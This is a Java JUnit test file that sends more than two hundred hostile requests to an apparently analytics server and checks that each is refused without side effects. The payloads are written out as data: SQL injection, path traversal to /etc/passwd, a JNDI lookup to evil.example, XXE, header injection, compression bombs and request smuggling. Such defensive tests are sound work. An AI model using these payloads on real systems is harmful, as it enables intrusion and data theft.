package org.deepcausalmmm.server;

import static org.assertj.core.api.Assertions.assertThat;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.InputStream;
import java.net.Socket;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.List;
import java.util.stream.Stream;
import java.util.zip.GZIPOutputStream;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;
import org.deepcausalmmm.server.base.Json;
import org.deepcausalmmm.server.data.UploadLimits;
import org.deepcausalmmm.server.store.Database;
import org.junit.jupiter.api.AfterAll;
import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/** More than two hundred requests of an attacker who has an account: each is refused, none acts. */
class HostileRequestTest {
  private static final List<String> NASTY =
      List.of(
          "'; drop table projects; --",
          "\" or 1=1 --",
          "1' union select password from users --",
          "../../../../etc/passwd",
          "..\\..\\windows",
          "%2e%2e%2f%2e%2e%2f",
          "a\r\nSet-Cookie: mmm_session=evil",
          "a\u0000b",
          "${jndi:ldap://evil.example/a}",
          "<script>alert(1)</script>",
          "{{7*7}}",
          "\u202egnp.exe",
          "--force",
          "@/etc/passwd",
          "-1",
          "1e999");

  @TempDir private static Path directory;
  private static MmmServer server;
  private static Client owner;
  private static String project;
  private static String data;
  private static int sent;

  @BeforeAll
  static void start() {
    server =
        Servers.in(directory.resolve("data"))
            .uploads(new UploadLimits(1 << 20, 1_000, 50, 1 << 20))
            .start();
    owner = Client.token(server, "admin");
    project = owner.project("Shoes");
    data = owner.upload(project, "sales.csv", SmallTable.csv());
  }

  @AfterAll
  static void stop() {
    server.close();
  }

  private static void refused(Client.Answer answer, String what) {
    sent++;
    assertThat(answer.status()).as("%s: %s", what, answer.text()).isBetween(400, 499);
    assertThat(answer.headers().getOrDefault("set-cookie", "")).isEmpty();
    assertThat(answer.text())
        .as(what)
        .doesNotContain("Exception")
        .doesNotContain("\tat ")
        .doesNotContain("org.h2")
        .doesNotContain(directory.toString());
  }

  private static List<Long> rows() {
    return server
        .part(Database.class)
        .with(
            handle ->
                Stream.of("projects", "datasets", "jobs", "results", "users", "schedules")
                    .map(
                        table ->
                            handle
                                .createQuery("select count(*) from " + table)
                                .mapTo(Long.class)
                                .one())
                    .toList());
  }

  @Test
  void nothingOfItActs() throws IOException {
    List<Long> before = rows();
    long files = files();
    ids();
    queries();
    fields();
    bodies();
    uploads();
    rawRequests();
    assertThat(sent).isGreaterThanOrEqualTo(200);
    assertThat(rows()).isEqualTo(before);
    assertThat(files()).isEqualTo(files);
    assertThat(owner.get(data + "/content").text()).isEqualTo(SmallTable.csv());
  }

  private static long files() throws IOException {
    try (Stream<Path> walk = Files.walk(directory.resolve("data"))) {
      return walk.filter(path -> !path.toString().contains("/db/")).count();
    }
  }

  private static String encoded(String text) {
    StringBuilder path = new StringBuilder();
    for (byte b : text.getBytes(StandardCharsets.UTF_8)) {
      path.append("%%%02x".formatted(b));
    }
    return path.toString();
  }

  private static void ids() {
    for (String nasty : NASTY) {
      String id = encoded(nasty);
      for (String path :
          List.of(
              "/api/v1/projects/" + id,
              project + "/datasets/" + id + "/content",
              project + "/jobs/" + id,
              project + "/results/" + id + "/files/model.mmm",
              "/docs/" + id,
              "/" + id)) {
        refused(owner.get(path), path);
      }
    }
  }

  private static void queries() {
    for (String nasty : NASTY) {
      refused(owner.get("/api/v1/projects?cursor=" + encoded(nasty)), "cursor " + nasty);
      refused(owner.get(project + "/jobs?state=" + encoded(nasty)), "state " + nasty);
      refused(owner.get(project + "/jobs?limit=" + encoded(nasty)), "limit " + nasty);
    }
  }

  private static void fields() {
    String id = data.replaceAll(".*/", "");
    for (String nasty : NASTY) {
      refused(post("runs", Json.object().put("dataset", nasty)), "dataset " + nasty);
      refused(post("plans", Json.object().put("run", nasty).put("mode", "fixed")), "run " + nasty);
      refused(post("runs", fit(id).put("kind", nasty)), "kind " + nasty);
      refused(post("runs", fit(id).put("seed", nasty)), "seed " + nasty);
      refused(post("runs", fit(id).set(nasty, Json.object())), "field " + nasty);
      refused(
          owner.put(
              data + "/roles", Json.object().set("roles", Json.object().put("outcome", nasty))),
          "roles " + nasty);
      refused(
          owner.post(
              "/api/v1/users",
              Json.object().put("name", "x").put("password", "long enough").put("role", nasty)),
          "role " + nasty);
      refused(
          owner.post("/api/v1/session", Json.object().put("name", nasty).put("password", nasty)),
          "login " + nasty);
    }
  }

  private static ObjectNode fit(String dataset) {
    return Json.object().put("dataset", dataset);
  }

  private static Client.Answer post(String shelf, JsonNode body) {
    return owner.post(project + "/" + shelf, body);
  }

  private static void bodies() {
    List<String> bodies = new ArrayList<>();
    bodies.add("{");
    bodies.add("[]");
    bodies.add("null");
    bodies.add("{\"name\":\"a\",\"name\":\"b\"}");
    bodies.add("{\"name\":\"a\"} trailing");
    bodies.add("{\"name\":" + "9".repeat(5_000) + "}");
    bodies.add("{\"name\":" + "[".repeat(10_000) + "]".repeat(10_000) + "}");
    bodies.add("{\"name\":\"" + "a".repeat(2 << 20) + "\"}");
    bodies.add("{\"name\":\"" + "a".repeat(300) + "\"}");
    bodies.add("{\"name\":\"\\u0000\"}");
    bodies.add("{\"name\":\"  \"}");
    bodies.add("{\"name\":{}}");
    bodies.add("<?xml version=\"1.0\"?><!DOCTYPE a [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>");
    for (String body : bodies) {
      refused(
          owner.send("POST", "/api/v1/projects", body.getBytes(StandardCharsets.UTF_8)),
          body.substring(0, Math.min(60, body.length())));
    }
    refused(
        owner.send("POST", "/api/v1/projects", new byte[] {(byte) 0xff, (byte) 0xfe, 0x7b}),
        "no UTF-8");
  }

  private static void uploads() throws IOException {
    String place = project + "/datasets?name=x.csv";
    refused(owner.send("POST", place, new byte[0]), "nothing");
    refused(owner.send("POST", place, new byte[(1 << 20) + 1]), "too many bytes");
    refused(
        owner.send("POST", place, "a\n".repeat(2_000).getBytes(StandardCharsets.UTF_8)), "rows");
    refused(owner.send("POST", place, ",".repeat(100).getBytes(StandardCharsets.UTF_8)), "columns");
    byte[] zeros = new byte[900_000];
    ByteArrayOutputStream packed = new ByteArrayOutputStream();
    try (GZIPOutputStream gzip = new GZIPOutputStream(packed)) {
      gzip.write(zeros);
    }
    Client gzip = owner.with("Content-Encoding", "gzip");
    refused(gzip.send("POST", place, packed.toByteArray()), "bomb");
    refused(gzip.send("POST", place, "plain".getBytes(StandardCharsets.UTF_8)), "no gzip");
    byte[] cut = java.util.Arrays.copyOf(packed.toByteArray(), 200);
    refused(gzip.send("POST", place, cut), "cut gzip");
    refused(owner.with("Content-Encoding", "br").send("POST", place, zeros), "encoding");
    ByteArrayOutputStream workbook = new ByteArrayOutputStream();
    try (ZipOutputStream zip = new ZipOutputStream(workbook)) {
      zip.putNextEntry(new ZipEntry("xl/worksheets/sheet1.xml"));
      for (int i = 0; i < 20; i++) {
        zip.write(zeros);
      }
      zip.closeEntry();
    }
    refused(owner.send("POST", place, workbook.toByteArray()), "workbook that is a bomb");
    refused(
        owner.send("POST", project + "/datasets?name=" + encoded("a\r\nb"), zeros),
        "name in lines");
  }

  private static void rawRequests() throws IOException {
    String host = "Host: 127.0.0.1:" + server.port() + "\r\n";
    List<String> requests = new ArrayList<>();
    requests.add("GET /../../etc/passwd HTTP/1.1\r\n" + host + "\r\n");
    requests.add("GET /docs/..%2f..%2fetc%2fpasswd HTTP/1.1\r\n" + host + "\r\n");
    requests.add("GET /docs/%2e%2e/status.html HTTP/1.1\r\n" + host + "\r\n");
    requests.add("GET //evil.example/ HTTP/1.1\r\n" + host + "\r\n");
    requests.add("GET /h2-console HTTP/1.1\r\n" + host + "\r\n");
    requests.add(
        "GET /api/v1/me HTTP/1.1\r\n" + host + "Cookie: " + "a".repeat(20_000) + "\r\n\r\n");
    requests.add("GET /" + "a".repeat(20_000) + " HTTP/1.1\r\n" + host + "\r\n");
    requests.add("GET /api/v1/me HTTP/1.1\r\n\r\n");
    requests.add("GET /api/v1/me HTTP/1.1\r\n" + host + host + "\r\n");
    requests.add("GET /api/v1/me HTTP/1.1\r\n" + host + "Content-Length: -5\r\n\r\n");
    requests.add(
        "POST /api/v1/session HTTP/1.1\r\n"
            + host
            + "Content-Length: 5\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n");
    requests.add("TRACE /api/v1/me HTTP/1.1\r\n" + host + "\r\n");
    requests.add("BREW /api/v1/me HTTP/1.1\r\n" + host + "\r\n");
    requests.add("GET /api/v1/me HTTP/1.1\r\n" + host + "X: a\u0000b\r\n\r\n");
    requests.add("nonsense\r\n\r\n");
    for (String request : requests) {
      sent++;
      assertThat(status(request))
          .as(request.substring(0, Math.min(60, request.length())))
          .matches("HTTP/1.1 4\\d\\d.*");
    }
  }

  private static String status(String request) throws IOException {
    try (Socket socket = new Socket("127.0.0.1", server.port())) {
      socket.setSoTimeout(20_000);
      socket.getOutputStream().write(request.getBytes(StandardCharsets.ISO_8859_1));
      socket.getOutputStream().flush();
      InputStream in = socket.getInputStream();
      StringBuilder line = new StringBuilder();
      for (int b = in.read(); b >= 0 && b != '\r'; b = in.read()) {
        line.append((char) b);
      }
      return line.toString();
    }
  }
}
